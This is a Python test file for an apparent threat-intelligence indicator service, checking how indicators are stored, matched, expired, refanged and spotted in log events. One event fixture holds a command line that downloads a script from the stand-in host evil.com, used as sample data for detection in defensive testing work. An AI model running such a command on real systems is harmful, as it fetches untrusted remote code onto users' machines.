"""The service: what is put is found, what ends or is removed is not, across restarts and crashes."""

import pytest

from phalanx.core import DEFAULT_TENANT, NS_PER_S, BatchId, EventBatch, InvalidInput, LogSource, TenantId
from phalanx.intel.indicators import (
    EVERYBODY,
    VALUES,
    Indicator,
    IndicatorDetector,
    Indicators,
    Kind,
    MemoryShelf,
    Warninglists,
    observables,
)
from phalanx.intel.indicators._formats import read_csv
from phalanx.intel.indicators._values import Prefixes, _key, asked_about, indicator_key, refanged
from phalanx.messaging import Marking
from phalanx.testing import InlineOffload, SimEntropy, SimWorld

OTHER = TenantId("other")


def made(kind, value, source="feed", **more):
    return Indicator(kind=kind, value=value, source=source, **more)


def run(main, seed=3):
    async def inside(world):
        shelf, store = MemoryShelf(), world.store("disk")

        async def opened(**options):
            found = Indicators(
                store, shelf, clock=world.clock, offload=InlineOffload(), entropy=SimEntropy(world.rng.child("e")),
                lists=Warninglists(), **options,
            )  # fmt: skip
            await found.open()
            return found

        await main(world, opened, shelf, store)

    SimWorld(seed).run(inside)


VALUES_PUT = [
    (Kind.ADDRESS, "198.18.0.1", "45.13.7.9"),
    (Kind.NETWORK, "45.13.0.0/16", "45.13.0.0/16"),
    (Kind.ADDRESS, "2a00:1450::7", "2a00:1450::7"),
    (Kind.DOMAIN, "Evil.Com.", "evil.com"),
    (Kind.HOST, "only.bad.net", "only.bad.net"),
    (Kind.URL, "HTTP://Bad.net:80/x?a=1#f", "http://bad.net/x?a=1"),
    (Kind.EMAIL, "<Eve@Bad.net>", "eve@bad.net"),
    (Kind.MD5, "0" * 31 + "A", "0" * 31 + "a"),
    (Kind.SHA1, "b" * 40, "b" * 40),
    (Kind.SHA256, "c" * 64, "c" * 64),
]


@pytest.mark.requirement("INT-2")
@pytest.mark.parametrize("compiled", [False, True])
def test_every_kind_is_found_in_its_own_way(compiled):
    async def main(world, opened, shelf, store):
        book = await opened(compiled=compiled)
        report = await book.put_many(DEFAULT_TENANT, [made(kind, value) for kind, value, _ in VALUES_PUT])
        assert [one.value for one in report.refused] == ["198.18.0.1"], "it is reserved"
        asked = [
            (Kind.ADDRESS, "45.13.200.1"), (Kind.ADDRESS, "::ffff:45.13.0.9"), (Kind.ADDRESS, "45.14.0.1"),
            (Kind.ADDRESS, "2a00:1450:0::7"), (Kind.HOST, "a.b.EVIL.com"), (Kind.HOST, "notevil.com"),
            (Kind.HOST, "only.bad.net"), (Kind.HOST, "more.only.bad.net"), (Kind.URL, "http://bad.net/x?a=1"),
            (Kind.URL, "http://bad.net/x"), (Kind.URL, "https://www.evil.com/anything"), (Kind.EMAIL, "EVE@bad.net"),
            (Kind.EMAIL, "x@mail.evil.com"), (Kind.MD5, "0" * 31 + "a"), (Kind.SHA1, "B" * 40), (Kind.SHA256, "c" * 64),
            (Kind.ADDRESS, "no address"), (Kind.HOST, ""),
        ]  # fmt: skip
        assert [(match.value, match.matched) for match in book.match(DEFAULT_TENANT, asked)] == [
            ("45.13.200.1", "45.13.0.0/16"), ("::ffff:45.13.0.9", "45.13.0.0/16"), ("2a00:1450:0::7", "2a00:1450::7"),
            ("a.b.EVIL.com", "evil.com"), ("only.bad.net", "only.bad.net"),
            ("http://bad.net/x?a=1", "http://bad.net/x?a=1"), ("https://www.evil.com/anything", "evil.com"),
            ("EVE@bad.net", "eve@bad.net"), ("x@mail.evil.com", "evil.com"), ("0" * 31 + "a", "0" * 31 + "a"),
            ("B" * 40, "b" * 40), ("c" * 64, "c" * 64),
        ]  # fmt: skip

    run(main)


def test_tenants_are_apart_and_everybodys_are_for_all():
    async def main(world, opened, shelf, store):
        book = await opened()
        await book.put_many(OTHER, [made(Kind.DOMAIN, "theirs.net")])
        await book.put_many(EVERYBODY, [made(Kind.DOMAIN, "all.net")])
        asked = [(Kind.HOST, "theirs.net"), (Kind.HOST, "all.net")]
        assert [one.matched for one in book.match(DEFAULT_TENANT, asked)] == ["all.net"]
        assert [one.matched for one in book.match(OTHER, asked)] == ["theirs.net", "all.net"]

    run(main)


def test_what_ends_is_replaced_removed_or_revoked_is_not_found_after_a_restart_either():
    async def main(world, opened, shelf, store):
        now = world.clock.wall_ns()
        for flush in (False, True):
            book = await opened()
            await book.put_many(DEFAULT_TENANT, [
                made(Kind.DOMAIN, "ends.net", until_ns=now + 5 * NS_PER_S),
                made(Kind.DOMAIN, "later.net", from_ns=now + 5 * NS_PER_S),
                made(Kind.DOMAIN, "gone.net"), made(Kind.DOMAIN, "gone.net", "second"),
                made(Kind.DOMAIN, "revoked.net", reference="indicator--1"),
                made(Kind.DOMAIN, "dropped.net", "dropped feed"), made(Kind.DOMAIN, "dropped.net", "second"),
                made(Kind.DOMAIN, "again.net", confidence=0.1),
            ])  # fmt: skip
            await book.put_many(DEFAULT_TENANT, [made(Kind.DOMAIN, "again.net", confidence=0.9)])
            if flush:
                await book.flush()
            await book.remove(DEFAULT_TENANT, [(Kind.DOMAIN, "gone.net")])
            assert await book.revoke(DEFAULT_TENANT, ["indicator--1", "indicator--2"]) == 1
            assert await book.remove_source(DEFAULT_TENANT, "dropped feed") == 1
            if flush:
                await book.flush()
            book = await opened()
            names = ["ends", "later", "gone", "revoked", "dropped", "again"]
            asked = [(Kind.HOST, f"{name}.net") for name in names]

            def told(book, asked):
                return [
                    (one.matched, one.note.source, one.note.confidence) for one in book.match(DEFAULT_TENANT, asked)
                ]

            still = [("dropped.net", "second", 0.5), ("again.net", "feed", 0.9)]
            if not flush:
                assert told(book, asked) == [("ends.net", "feed", 0.5), *still]
            listed, _ = await book.listed(DEFAULT_TENANT)
            assert {(one.value, one.note.source) for one in listed} >= {(one[0], one[1]) for one in still}
            await world.clock.sleep(6)
            assert [one[0] for one in told(book, asked)] == ["later.net", "dropped.net", "again.net"]

    run(main)


def test_a_lost_or_damaged_file_is_made_anew_and_leftovers_are_removed():
    async def main(world, opened, shelf, store):
        book = await opened()
        names = [f"x{number}.net" for number in range(500)]
        await book.put_many(DEFAULT_TENANT, [made(Kind.DOMAIN, name) for name in names])
        await book.flush()
        [file] = shelf.names()
        data = bytes(shelf.view(file))
        assert b"x7.net" not in data
        assert b"feed" not in data
        shelf.write(file.rpartition("-")[0] + "-99999999", [b"left over"])
        for damage in (None, data[:-5]):
            shelf.remove(file)
            if damage is not None:
                shelf.write(file, [damage])
            book = await opened()
            assert len(book.match(DEFAULT_TENANT, [(Kind.HOST, name) for name in names])) == 500
            assert "99999999" not in "".join(shelf.names())

    run(main)


def test_many_puts_become_few_tables_and_are_listed_in_pages(monkeypatch):
    monkeypatch.setattr("phalanx.intel.indicators._levels.FLUSH_VALUES", 200)

    async def main(world, opened, shelf, store):
        book = await opened()
        for number in range(60):
            await book.put_many(
                DEFAULT_TENANT,
                [made(Kind.DOMAIN, f"x{number}-{place}.net", f"feed{number % 3}") for place in range(20)],
            )
        stats = book.stats(DEFAULT_TENANT)
        assert stats.entries == 1_200
        assert stats.tables < 8
        assert stats.files >= 1
        found, after, pages = [], "", 0
        while True:
            page, after = await book.listed(DEFAULT_TENANT, after=after, limit=70, source="feed1")
            found += [one.value for one in page]
            pages += 1
            if not after:
                break
        assert found == [f"x{number}-{place}.net" for number in range(1, 60, 3) for place in range(20)]
        assert pages > 3
        await book.remove_source(DEFAULT_TENANT, "feed1")
        for source in ("feed0", "feed2"):
            await book.remove_source(DEFAULT_TENANT, source)
        assert await book.tidy() == 60
        assert book.stats(DEFAULT_TENANT).entries == 0
        assert await store.scan(VALUES, DEFAULT_TENANT) == []

    run(main)


def test_flagged_values_say_so():
    async def main(world, opened, shelf, store):
        book = await opened(hygiene="flag")
        report = await book.put_many(DEFAULT_TENANT, [made(Kind.ADDRESS, "10.1.2.3")])
        assert report.taken == 1
        [match] = book.match(DEFAULT_TENANT, [(Kind.ADDRESS, "10.1.2.3")])
        assert match.note.labels == ("on a warninglist: reserved by standards",)

    run(main)


def batch_of(columns, tenant=DEFAULT_TENANT):
    n = len(next(iter(columns.values())))
    return EventBatch(
        tenant, BatchId("b"), LogSource("zeek", "", "conn"), "zeek", 0, range(n), [0] * n, [b"{}"] * n, columns
    )


def test_events_are_asked_about():
    columns = {
        "id.orig_h": ["10.0.0.1", "10.0.0.2", "10.0.0.3"],
        "DestinationIp": ["45.13.1.1", None, "8.8.8.8"],
        "query": ["www.evil.com", "fine.org", None],
        "Hashes": [None, "MD5=" + "a" * 32 + ",SHA256=" + "C" * 64, None],
        "CommandLine": [None, None, "curl http://evil.com/a.sh, then 45.13.9.9"],
        "port": [1, 2, 3],
        "color": ["evil.com"] * 3,
    }

    async def main(world, opened, shelf, store):
        book = await opened()
        await book.put_many(DEFAULT_TENANT, [
            made(Kind.NETWORK, "45.13.0.0/16", confidence=0.9, name="C2", marking=Marking.GREEN),
            made(Kind.DOMAIN, "evil.com"), made(Kind.DOMAIN, "evil.com", "second", confidence=0.2),
            made(Kind.SHA256, "c" * 64),
        ])  # fmt: skip
        hits = IndicatorDetector(book).evaluate(batch_of(columns))
        assert [(hit.place, hit.rule.name) for hit in hits] == [
            (0, "indicator domain evil.com"), (0, "indicator network 45.13.0.0/16"),
            (1, "indicator sha256 " + "c" * 64), (2, "indicator domain evil.com"),
            (2, "indicator network 45.13.0.0/16"),
        ]  # fmt: skip
        assert hits[0].told == (
            "query is www.evil.com, which evil.com covers; looked for because of feed, confidence 0.50, TLP:AMBER;"
            " second, confidence 0.20, TLP:AMBER"
        )
        assert [hit.marking for hit in hits[:2]] == [Marking.AMBER, Marking.GREEN]
        assert [entity.type for entity in hits[1].entities] == ["ip"]
        assert book.stats(DEFAULT_TENANT).sources == {"feed": 3, "second": 1}
        assert hits[1].confidence == 0.9
        assert not IndicatorDetector(book).evaluate(batch_of(columns, OTHER))
        assert (Kind.HOST, "evil.com") not in observables(batch_of({"color": ["evil.com"]}))

    run(main)


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("rundll32.exe", "is the name of a file; look for its hash"),
        ("Invoice.PDF.js", "is the name of a file"),
        ("MSEDGEWIN10", "is no name of a host with a domain; a bare name is searched for"),
    ],
)
def test_what_only_looks_like_a_domain_is_refused_with_the_reason(value, reason):
    with pytest.raises(InvalidInput, match=reason):
        indicator_key(Kind.DOMAIN, value)


@pytest.mark.parametrize("value", ["evil.com", "bad.zip", "x.sh", "get.app", "a.md", "only.py"])
def test_top_level_domains_that_files_end_with_too_are_domains(value):
    assert indicator_key(Kind.DOMAIN, value).kind is Kind.DOMAIN


@pytest.mark.requirement("INT-2")
@pytest.mark.parametrize("scheme", ["hxxp", "hXXp", "HXXP"])
def test_schemes_that_were_made_harmless_are_meant_in_any_case_and_nothing_in_a_path_is(scheme):
    assert refanged(f"{scheme}s://evil[.]example/hxxp") == "https://evil.example/hxxp"
    assert refanged(f"{scheme}s://evil[dot]example/hxxp") == "https://evil.example/hxxp"


@pytest.mark.parametrize("stored", ["http://пример.рф/a", "http://xn--e1afmkfd.xn--p1ai/a", "HTTP://Пример.РФ:80/a"])
def test_a_host_of_other_letters_is_one_however_it_is_written(stored):
    key = indicator_key(Kind.URL, stored)
    assert key.value == "http://xn--e1afmkfd.xn--p1ai/a"
    earlier = _key(Kind.URL, "http://пример.рф/a")
    for seen in ("http://пример.рф/a", "http://xn--e1afmkfd.xn--p1ai/a"):
        asked = {one.key for one in asked_about(Kind.URL, seen, Prefixes())}
        assert {key.key, earlier} <= asked, "also as earlier versions kept it"
    assert not {one.key for one in asked_about(Kind.URL, "http://xn--e1afmkfd.xn--p1ai/b", Prefixes())} & {
        key.key,
        earlier,
    }


@pytest.mark.requirement("INT-2")
def test_a_marking_is_understood_however_it_is_written_or_its_row_is_refused():
    written = {
        "RED": Marking.RED, "tlp:red": Marking.RED, "TLP: RED": Marking.RED, "TLP-AMBER": Marking.AMBER,
        "TLP:AMBER+STRICT": Marking.AMBER_STRICT, "amber strict": Marking.AMBER_STRICT, "White": Marking.CLEAR,
        "": Marking.GREEN,
    }  # fmt: skip
    rows = "\n".join(f"a{at}.example.com,{tlp}" for at, tlp in enumerate(written))
    found = read_csv(f"value,tlp\n{rows}\nb.example.com,for nobody", made(Kind.DOMAIN, "", marking=Marking.GREEN))
    assert [one.marking for one in found.indicators] == list(written.values())
    assert [one.value for one in found.refused] == ["b.example.com"]
